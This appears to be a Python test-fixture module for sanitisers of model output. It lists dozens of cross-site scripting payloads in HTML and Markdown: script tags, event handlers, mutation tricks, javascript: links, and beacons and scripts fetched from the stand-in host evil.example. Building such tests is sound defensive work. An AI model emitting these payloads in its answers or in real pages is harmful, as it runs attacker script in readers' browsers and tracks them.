"""What somebody who wants to run a script in the page, or to learn who reads it, makes a model say.

A payload that runs calls `pwned()`, or asks `evil.example`. `RAW` is HTML, which is shown as text;
it is also given to the layers behind that alone. `MARKDOWN` breaks out of what Markdown makes.
"""

from typing import Final

EVIL: Final = "https://evil.example"

RAW: Final = {
    "script": "<script>pwned()</script>",
    "script source": f"<script src={EVIL}/a.js></script>",
    "script in upper case": "<SCRIPT>pwned()</SCRIPT>",
    "script in script": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "module": f"<script type=module>import '{EVIL}/m.js'</script>",
    "image": f"<img src={EVIL}/beacon.png>",
    "image with a set": f"<img srcset='{EVIL}/set.png 1x' src=x>",
    "error handler": "<img src=x onerror=pwned()>",
    "error handler without spaces": "<img/src=x/onerror=pwned()>",
    "handler behind a line break": "<img src=x\nonerror\n=\npwned()>",
    "load handler": "<body onload=pwned()>",
    "focus handler": "<input autofocus onfocus=pwned()>",
    "toggle handler": "<details open ontoggle=pwned()><summary>x</summary></details>",
    "pointer handler": "<b onmouseover=pwned() onpointerenter=pwned() style='font-size:99em'>x</b>",
    "animation handler": (
        "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=pwned()>"
    ),
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "video": f"<video src={EVIL}/v poster={EVIL}/p onloadstart=pwned() autoplay></video>",
    "audio": f"<audio src={EVIL}/a onerror=pwned() autoplay></audio>",
    "picture": f"<picture><source srcset={EVIL}/s.png><img src=x></picture>",
    "svg": "<svg onload=pwned()></svg>",
    "svg script": "<svg><script>pwned()</script></svg>",
    "svg script with an address": f"<svg><script href={EVIL}/s.js /></svg>",
    "svg image": f"<svg><image href={EVIL}/i.png /></svg>",
    "svg use": f"<svg><use href={EVIL}/u.svg#x /></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "svg animation": (
        "<svg><a><animate attributeName=href values=javascript:pwned("
        ") /><text y=9>x</text></a></svg>"
    ),
    "mathml": (
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></table></math>"
    ),
    "mathml link": "<math href=javascript:pwned()>x</math>",
    "mutation by noscript": (
        '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>'
    ),
    "mutation by svg": "<svg></p><style><a id='</style><img src=1 onerror=pwned()>'></svg>",
    "mutation by form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()></style>"
    ),
    "mutation by template": "<template><img src=x onerror=pwned()></template>",
    "mutation by textarea": "<textarea></textarea><img src=x onerror=pwned()>",
    "mutation by title": (
        "<title><img src=x onerror=pwned()></title><xmp><img src=x onerror=pwned()>"
    ),
    "mutation by comment": "<!--><img src=x onerror=pwned()>-->",
    "processing instruction": "<?xml version='1.0'?><img src=x onerror=pwned()>",
    "cdata": "<![CDATA[<img src=x onerror=pwned()>]]>",
    "frame": f"<iframe src={EVIL}/f></iframe>",
    "frame with a document": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "frame of a script": "<iframe src=javascript:parent.pwned()></iframe>",
    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/s.css>",
    "prefetch": f"<link rel=prefetch href={EVIL}/p><link rel=preload as=image href={EVIL}/q>",
    "imported style": f"<style>@import '{EVIL}/i.css'; *{{background:url({EVIL}/b)}}</style>",
    "style attribute": f"<p style='background:url({EVIL}/b);position:fixed;inset:0'>x</p>",
    "background": f"<table background={EVIL}/t><tr><td background={EVIL}/d>x</table>",
    "base": f"<base href={EVIL}/><a href=x>x</a>",
    "form": f"<form action={EVIL}/f><input name=a><button formaction=javascript:pwned()>x</form>",
    "nested forms": f"<form id=f><form action={EVIL}><input type=image src={EVIL}/n></form></form>",
    "isindex": f"<isindex type=image src={EVIL}/i>",
    "clobbering": "<form id=document><input name=cookie><img name=body id=markdown></form>",
    "clobbered attributes": "<form onmouseover=pwned()><input name=attributes><input name=remove>",
    "link to a script": "<a href=javascript:pwned()>x</a>",
    "link with a class": (
        "<a href=https://a.example class=code-copy id=x data-x=1 aria-label=y>x</a>"
    ),
    "ping": f"<a href=https://a.example ping={EVIL}/p>x</a>",
    "slot": "<slot name=x onslotchange=pwned()></slot><x-y is=z onclick=pwned()>x</x-y>",
    "popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=pwned()>y</div>",
    "nul": "<scr\0ipt>pwned()</scr\0ipt><img src=x on\0error=pwned()>",
}
"""HTML by what it tries."""

REFRESH: Final = f"<meta http-equiv=refresh content='0;url={EVIL}/r'>"
"""Leads elsewhere. No Content-Security-Policy forbids it."""

MARKDOWN: Final = {
    "refresh": REFRESH,
    "script link": "[x](javascript:pwned())",
    "script link in mixed case": "[x](JaVaScRiPt:pwned())",
    "script link behind spaces": "[x](   javascript:pwned())",
    "script link in brackets": "[x](<javascript:pwned()>)",
    "script link with a tab": "[x](<java\tscript:pwned()>)",
    "script link with a tab reference": "[x](java&#9;script:pwned())",
    "script link with a line reference": "[x](java&NewLine;script:pwned())",
    "script link in references": "[x](&#106;&#97;vascript&colon;pwned())",
    "script link in hexadecimal": "[x](&#x6A;avascript&#58;pwned())",
    "script link behind a control": "[x](\x01javascript:pwned())",
    "script link behind a reference": "[x](&#1;javascript:pwned())",
    "script link in percents": "[x](javascript%3Apwned())",
    "script link with slashes": "[x](javascript://%0apwned())",
    "script link with an escape": "[x](java\\script:pwned())",
    "vbscript link": "[x](vbscript:pwned())",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "blob link": "[x](blob:https://a.example/1)",
    "file link": "[x](file:///etc/passwd)",
    "relative link": "[x](//evil.example/) [y](/users) [z](#main) [w](\\\\evil.example)",
    "referenced link": "[x]\n\n[x]: javascript:pwned() 'y'",
    "referenced link in references": "[x][y]\n\n[y]: &#x6A;avascript:pwned()",
    "automatic link": "<javascript:pwned()> <data:text/html,x> <vbscript:x>",
    "automatic link with quotes": '<https://a.example/"onmouseover="pwned()>',
    "bare address with quotes": "https://a.example/\"onmouseover='pwned()' www.a.example\"x",
    "title": '[x](https://a.example "y\\" onmouseover=\\"pwned()")',
    "title in single quotes": "[x](https://a.example '\"><img src=x onerror=pwned()>')",
    "address with quotes": '[x](https://a.example/"onclick="pwned())',
    "address with a tag": "[x](<https://a.example/></a><img src=x onerror=pwned()>)",
    "image": f"![x]({EVIL}/beacon.png)",
    "image of a script": "![x](javascript:pwned())",
    "image with a handler": f'![x" onerror="pwned()]({EVIL}/x.png)',
    "image with a title": f"![x]({EVIL}/x.png '\" onload=\"pwned()')",
    "image in a link": f"[![x]({EVIL}/x.png)](javascript:pwned())",
    "image by reference": f"![x][y]\n\n[y]: {EVIL}/y.png",
    "alternative text": "![<img src=x onerror=pwned()>](https://a.example/x.png)",
    "fence": '```"><img src=x onerror=pwned()>\nx\n```',
    "fence with a class": (
        '```js code-copy" onclick="pwned()\n</code></pre><script>pwned()</script>\n```'
    ),
    "fence of a prototype": "```__proto__\nx\n```\n\n```constructor\ny\n```",
    "open fence": "```html\n<script>pwned()</script><img src=x onerror=pwned()>",
    "coloured html": "```html\n<img src=x onerror=pwned()><!-- </span> -->\n```",
    "indented code": "    <script>pwned()</script>",
    "code span": "`<img src=x onerror=pwned()>` ``</code><script>pwned()</script>``",
    "table": (
        "| <img src=x onerror=pwned()> | b |\n|---|---|\n| [x](javascript:pwned()) | `</td>` |"
    ),
    "heading": "# <img src=x onerror=pwned()>\n\n<svg onload=pwned()>\n===",
    "list": f"- <img src=x onerror=pwned()>\n- [ ] <script>pwned()</script>\n1. ![x]({EVIL}/l.png)",
    "quotation": "> <script>pwned()</script>\n> [x](javascript:pwned())",
    "references": "&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=x onerror=pwned()&#62;",
    "raw text": "<pre><code>&lt;img src=x onerror=pwned()&gt; <img src=x onerror=pwned()",
    "unclosed tag": "<img src=x onerror=pwned() <b",
    "unclosed quote": 'text <a href="javascript:pwned() **b** `c`',
    "unclosed comment": "<!-- [x](javascript:pwned())",
    "markup in markup": (
        "**<img src=x onerror=pwned()>** *<svg/onload=pwned()>* ~~<b onclick=pwned()>~~"
    ),
    "tag across lines": "<a\nhref='javascript:pwned()'\n\n>x</a>",
    "line separators": "<img src=x\u2028onerror=pwned()> [x](java\u2028script:pwned())",
    "bidirectional": "[\u202egpj.exe](https://a.example) \u2066<script>pwned()</script>\u2069",
    "lone surrogate": "[x](https://a.example/\ud800) \udfff <img src=x onerror=pwned()>",
    "placeholders": "<pre></pre><i></i> <pre>`x`</pre>\n\n```js\ny\n```\n\n<pre></pre>",
}
"""Markdown by what it tries."""
